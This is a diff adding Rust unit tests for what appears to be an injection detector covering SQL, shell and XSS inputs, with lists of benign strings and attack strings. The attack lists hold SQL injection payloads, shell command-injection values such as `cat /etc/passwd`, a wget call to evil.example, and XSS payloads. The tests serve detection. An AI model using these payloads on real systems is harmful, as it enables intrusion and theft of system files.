@@ -321,6 +321,106 @@ fn texts_that_tell() {
     all(Judge::Xss, true, &run);
 }
 
+#[test]
+fn code_within_sentences() {
+    // Markdown shows code in backticks.
+    let passes = [
+        "Nit: `if (user = 'admin' or 1)` is always true. Did you mean `==`?",
+        "```sql\nselect id from t where a = 'x' or 1=1\n```",
+        "Write a query: select a from b where c = 'd'; I am lost and do not know why it has no rows.",
+    ];
+    all(Judge::Sqli, false, &passes);
+    let attacks = ["`id` = 1' or '1'='1", "```x y\n' or 1=1 --\n```", "this is `code` and so' or 1=1 --"];
+    all(Judge::Sqli, true, &attacks);
+    let passes = [
+        "try `dig +short mx example.com | sort -n | head -1` and tell me what you see",
+        "the fix was `chmod 600 x && ssh-add -l`, thanks Ana!",
+        "try `systemctl restart nginx && journalctl -fu nginx` or reboot ;)",
+        "# Setup\n1. `git clone https://example.com/x.git && cd x`\n2. `make`\n> Note: needs `sudo`.",
+        "Write a line that counts lines: cat file | wc -l",
+        "Dear all, the plan is at the office. Cheers; Ed",
+        "<(\\w+)[^>]*>",
+    ];
+    all(Judge::Shell, false, &passes);
+    let attacks = [
+        "`id`",
+        "x `wget http://evil.example/x` y",
+        "127.0.0.1 `id`",
+        "this is the file`id`",
+        "this is the file; `cat /etc/passwd`; and so on; cat /etc/passwd",
+        "Write a line that counts lines: cat file | sh",
+        "Write a line that counts lines: cat file | tail /etc/passwd",
+    ];
+    all(Judge::Shell, true, &attacks);
+}
+
+#[test]
+fn searches_about_attacks() {
+    let passes = [
+        "xp_cmdshell disable",
+        "information_schema tables",
+        "\"union select\" tutorial",
+        "'or' in french",
+        "drop table dining furniture",
+        "create user manual",
+        "what is xp_cmdshell",
+        "sleep(5) hours",
+        "while (1) sleep(5);",
+        "o'or",
+        "total > 100 and tier in [\"gold\", \"silver\"]",
+        "query Find($id: ID!) { item(name: \"men's\", or: 1) { id } }",
+    ];
+    all(Judge::Sqli, false, &passes);
+    let attacks = [
+        "exec xp_cmdshell",
+        "\"union select\" tutorial 1",
+        "'or' in ('a')",
+        "drop table users cascade",
+        "create user mallory identified by 'x'",
+        "' or 1 in (1)",
+        "query Find { item(name: \"x' or 1=1 --\") { id } }",
+        "';prepare s from 0x73656c656374;execute s;#",
+        "lower(convert(varchar(32),hashbytes('md5','9'),2))",
+        "'-0||'",
+        "'^(0)^'",
+    ];
+    all(Judge::Sqli, true, &attacks);
+    all(Judge::Shell, false, &["whoami command", "netstat options explained"]);
+    all(Judge::Shell, true, &["ansible-config dump", "netstat -an", "whoami /priv"]);
+    let passes = [
+        "<script> tag async vs defer",
+        "alert(1) meaning",
+        "alert ( not alarm )",
+        "javascript: the good parts",
+        "<svg width=\"20\"><use href=\"#cart\"/></svg>",
+        "<video controls src=\"/a.mp4\"></video>",
+        "<form action=\"/search\" method=\"get\">",
+        "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\"></iframe>",
+        "<style>p{background:url(/a.png)}</style>",
+    ];
+    all(Judge::Xss, false, &passes);
+    let attacks = [
+        "<script> alert(1) tag",
+        "alert(1) in x",
+        "javascript: alert(1)",
+        "<svg width=1><use href=\"https://evil.example/#x\"/></svg>",
+        "<svg width=1><a href=\"javascript:alert(1)\"/></svg>",
+        "<video onerror=\"x\" src=\"/a.mp4\"></video>",
+        "<form action=\"//evil.example\" method=\"get\">",
+        "<iframe src=\"https://evil.example/\"></iframe>",
+        "<style>p{background:url(https://evil.example/a)}</style>",
+    ];
+    all(Judge::Xss, true, &attacks);
+}
+
+#[test]
+fn commands_behind_addresses() {
+    let attacks = ["127.0.0.1|echo x", ";sleep 7;b", "admin';ls #"];
+    all(Judge::Shell, true, &attacks);
+    let passes = ["300 people.say|echo x", "eat; sleep 8 hours; repeat", "1.2.3|echo x", "ls #1"];
+    all(Judge::Shell, false, &passes);
+}
+
 proptest! {
     /// No input causes a panic, and no decoding grows beyond its documented limit.
     #[test]
